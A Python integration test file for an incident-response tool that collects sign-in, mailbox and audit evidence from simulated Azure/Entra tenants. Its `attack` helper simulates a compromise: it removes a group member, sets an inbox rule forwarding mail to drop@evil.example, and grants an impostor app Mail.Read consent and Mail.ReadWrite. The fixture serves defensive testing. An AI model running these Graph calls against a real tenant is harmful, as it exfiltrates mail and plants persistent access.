"""The steps that collect, against the simulated tenants over real HTTP, and storage as it is in Azure."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any, Final

import pytest

from infra.local import world
from infra.local.tenant.app_roles import APP_ROLES, GRAPH
from infra.local.tenant.control import TenantControl
from infra.local.tenant.sign_in_records import sign_in_record
from responders.rosters import PRIVILEGED_ACCOUNTS, PRIVILEGED_ACCOUNTS_OF_B2C
from responders.runbooks.evidence import EVIDENCE
from responders.runbooks.mailboxes import MAILBOXES
from responders.runbooks.privileged_sign_ins import PRIVILEGED_SIGN_INS
from shared.clients.storage import Storage
from shared.detect.rosters import Rosters
from shared.emergency.entries import Answer, RunKind, StepState
from shared.emergency.evidence import EvidenceBox
from shared.emergency.manifest import StoredFiles, lines_of, verify
from shared.emergency.runbook import RunbookStep, StepEnd
from tests.fakes.emergencies import EMERGENCY
from tests.fakes.step_runs import Drive, drive
from tests.integration.responders.conftest import SimulatedTenant

_MINUTE: Final = timedelta(minutes=1)
_STEPS: Final = (PRIVILEGED_SIGN_INS, MAILBOXES, EVIDENCE)


@pytest.fixture
def driven(simulated: SimulatedTenant, storage: Storage) -> Drive:
    """An emergency of just now; the rosters have been read."""
    simulated.control.settings(audit_lag=0, audit_jitter=0, audit_requests_per_10_seconds=0)
    now = datetime.now(UTC)
    for roster, api in ((PRIVILEGED_ACCOUNTS, simulated.workforce), (PRIVILEGED_ACCOUNTS_OF_B2C, simulated.b2c)):
        Rosters(storage, clock=lambda: now).sweep(roster, api)
    edges = {world.WORKFORCE_TENANT: simulated.workforce, world.B2C_TENANT: simulated.b2c}
    return drive(storage, edges=edges, now=now)


def attack(control: TenantControl) -> None:
    """Let Mallory sign in, take Dave out of a group, forward Alice's mail and consent to an app that reads mail."""
    control.add_sign_in(sign_in_record(world.MALLORY), tenant=world.WORKFORCE_TENANT)
    control.add_sign_in(sign_in_record(world.MALLORY, error_code=50126), tenant=world.WORKFORCE_TENANT)
    with control.as_principal(world.MALLORY, "graph", unthrottled=True) as mallory:
        mallory.delete(f"/v1.0/groups/{world.EVERYBODY.id}/members/{world.DAVE.id}/$ref").raise_for_status()
        to = [{"emailAddress": {"address": "drop@evil.example"}}]
        rule = {"displayName": "..", "actions": {"forwardTo": to}}
        mallory.post(f"/v1.0/users/{world.ALICE.id}/mailFolders/inbox/messageRules", json=rule).raise_for_status()
        consent = {"clientId": world.IMPOSTOR.id, "consentType": "AllPrincipals", "scope": "Mail.Read"}
        mallory.post("/v1.0/oauth2PermissionGrants", json=consent).raise_for_status()
        role = {"principalId": world.IMPOSTOR.id, "resourceId": GRAPH, "appRoleId": APP_ROLES["Mail.ReadWrite"]}
        mallory.post(f"/v1.0/servicePrincipals/{GRAPH}/appRoleAssignedTo", json=role).raise_for_status()


def found(end: StepEnd, words: str) -> str:
    return "\n".join(f"{one.about}: {one.text}" for one in end.findings if words in one.about or words in one.text)


def kept(storage: Storage, source: str) -> list[dict[str, Any]]:
    entries = EvidenceBox(storage, EMERGENCY, clock=lambda: datetime.now(UTC)).entries()
    names = dict.fromkeys(entry.file for entry in entries if entry.file and entry.source == source)
    files = StoredFiles(storage, EMERGENCY)
    return [json.loads(line) for name in names for line in lines_of(files.pieces(name))]


def test_an_attack_is_collected_and_what_came_later_is_new(
    driven: Drive, simulated: SimulatedTenant, storage: Storage
) -> None:
    assert {step.id: driven.run(step).state for step in _STEPS} == {step.id: StepState.DONE for step in _STEPS}
    assert not kept(storage, "audit log")
    attack(simulated.control)
    driven.clock.move(5 * _MINUTE)
    ends = {step.number: driven.run(step, RunKind.REPEAT) for step in _STEPS}
    assert "2 sign-ins (2 new); failed: 50126 (1)" in found(ends[5], "mallory@")
    consent = "Add app role assignment to service principal (1), Add delegated permission grant (1)"
    assert f"3 changes (3 new): {consent}, Remove member from group (1)" in found(ends[5], "mallory@")
    assert "forwards to drop@evil.example" in found(ends[7], "alice@")
    assert "for everybody: Mail.Read" in found(ends[7], "consents")
    (app,) = [one for one in ends[7].findings if one.is_new and "every mailbox" in one.about]
    assert "Mail.ReadWrite (Microsoft Graph)" in app.text
    assert "MailboxSettings.Read" in found(ends[7], "every mailbox"), "what the responder itself may do is said too"
    assert len(driven.bench.teams.notices) == 1
    assert len(kept(storage, "audit log")) == 3
    assert len(kept(storage, "sign-ins of users")) == 2
    assert verify(StoredFiles(storage, EMERGENCY), head=ends[8].evidence[0].sha256).problems == ()


def test_nothing_in_the_tenant_is_changed(driven: Drive, simulated: SimulatedTenant) -> None:
    attack(simulated.control)
    before = simulated.control.state()
    for step in _STEPS:
        driven.run(step)
    assert simulated.control.state() == before
    asked = [each for each in simulated.control.requests() if each["principal"] == world.RESPONDER.id]
    assert {each["method"] for each in asked} == {"GET"}


@pytest.mark.parametrize(
    ("step", "missing", "failed"),
    [
        (PRIVILEGED_SIGN_INS, "AuditLog.Read.All", True),
        (MAILBOXES, "MailboxSettings.Read", False),
        (EVIDENCE, "AuditLog.Read.All", False),
        (EVIDENCE, "Microsoft.Insights/eventtypes/values/read", False),
    ],
)
def test_a_permission_that_is_missing_is_said_and_stops_nothing_else(
    driven: Drive, simulated: SimulatedTenant, step: RunbookStep, missing: str, *, failed: bool
) -> None:
    simulated.control.settings(grants_reach_issued_tokens=True)
    simulated.control.revoke(world.RESPONDER, missing)
    end = driven.run(step)
    said = [one for one in end.findings if one.answer is Answer.UNKNOWN and missing in one.text]
    assert said
    assert all(one.what_to_do for one in said)
    assert failed is False or end.state in {StepState.FAILED, StepState.DONE}


@pytest.mark.parametrize("status", [429, 503, 0], ids=["429", "503", "cut"])
def test_a_service_that_fails_for_a_while_is_asked_again(
    driven: Drive, simulated: SimulatedTenant, storage: Storage, status: int
) -> None:
    attack(simulated.control)
    driven.clock.move(_MINUTE)
    simulated.control.fault("GET .*/auditLogs/", status=status, times=2, retry_after=1 if status == 429 else None)
    assert driven.run(EVIDENCE).state is StepState.DONE
    assert len(kept(storage, "audit log")) == 3


def test_records_that_come_late_and_twice_are_new_once(
    driven: Drive, simulated: SimulatedTenant, storage: Storage
) -> None:
    driven.run(EVIDENCE)
    at = f"{driven.clock() - 600 * _MINUTE:%Y-%m-%dT%H:%M:%SZ}"
    late = sign_in_record(world.MALLORY, id="late", createdDateTime=at)
    for _ in range(2):
        simulated.control.add_sign_in(late, tenant=world.WORKFORCE_TENANT)
    driven.clock.move(15 * _MINUTE)
    end = driven.run(EVIDENCE)
    assert "1 records kept, 1 of them new" in found(end, "sign-ins of users of Entra ID")
    assert len(kept(storage, "sign-ins of users")) == 1


def test_storage_without_legal_holds_is_said(driven: Drive) -> None:
    end = driven.run(EVIDENCE)
    (hold,) = [one for one in end.findings if one.about == "legal hold"]
    assert hold.answer is Answer.WRONG
    assert "set-legal-hold" in hold.what_to_do
